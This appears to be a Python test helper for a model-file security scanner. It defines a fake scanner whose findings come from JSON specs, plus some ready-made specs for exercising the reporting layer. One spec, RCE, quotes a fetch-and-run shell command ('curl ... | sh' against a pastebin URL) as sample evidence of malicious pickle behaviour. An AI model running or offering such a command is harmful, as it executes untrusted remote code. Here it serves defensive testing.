"""A stand-in format whose findings a test chooses, for testing the reporting layer.

The verdict, report and configuration layer must be testable whatever the state
of the real format scanners, so these tests register a tiny scanner for files
that start with ``MSTEST\\n`` followed by a JSON list of findings to emit. Real
scanners stay registered after it, so real files scan as usual.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from modelsieve.formats.base import ScanContext
from modelsieve.model import Analysis, Behaviour, BehaviourKind, Indicator, IndicatorKind
from modelsieve.rules.catalog import get
from modelsieve.source import Artifact

MAGIC = b"MSTEST\n"


class FakeScanner:
    """Emits the findings described in the file; never used outside tests."""

    name = "fake"

    def sniff(self, head: bytes, artifact: Artifact) -> bool:
        return head.startswith(MAGIC)

    def scan(self, artifact: Artifact, ctx: ScanContext) -> Analysis:
        spec = json.loads(artifact.read_at(len(MAGIC), artifact.size))
        findings = []
        for item in spec:
            rule = get(item["rule"])
            loc = artifact.location
            for member in item.get("members", ()):
                loc = loc.child(member)
            behaviour = None
            if "behaviour" in item:
                behaviour = Behaviour(BehaviourKind(item["behaviour"][0]), item["behaviour"][1])
            findings.append(
                rule.finding(
                    loc.at(offset=item.get("offset"), opcode_index=item.get("opcode"), detail=item.get("detail")),
                    item.get("message", rule.title),
                    subject=item.get("subject", ""),
                    evidence=item.get("evidence", ""),
                    behaviour=behaviour,
                    indicators=tuple(Indicator(IndicatorKind(k), v) for k, v in item.get("indicators", ())),
                )
            )
        return Analysis(formats=("fake",), findings=tuple(findings))


FAKE = FakeScanner()

Writer = Callable[..., Path]

# Ready-made finding specs.
RCE = {
    "rule": "PKL001",
    "subject": "os.system",
    "offset": 42,
    "opcode": 7,
    "message": "loading calls os.system('curl https://pastebin.com/raw/x | sh')",
    "behaviour": ["runs-command", "runs shell command `curl https://pastebin.com/raw/x | sh`"],
    "indicators": [["url", "https://pastebin.com/raw/x"], ["command", "curl https://pastebin.com/raw/x | sh"]],
}
GETATTR = {
    "rule": "PKL005",
    "subject": "builtins.getattr",
    "offset": 10,
    "message": "getattr on an unresolved object",
}
UNKNOWN_CALL = {"rule": "PKL003", "subject": "mypkg.build", "offset": 5, "message": "calls mypkg.build"}
URL_INFO = {
    "rule": "IND001",
    "subject": "https://example.org/model-card",
    "message": "URL in content",
    "indicators": [["url", "https://example.org/model-card"]],
}
PARSE_ERROR = {"rule": "GEN001", "subject": "truncated", "offset": 99, "message": "truncated stream"}
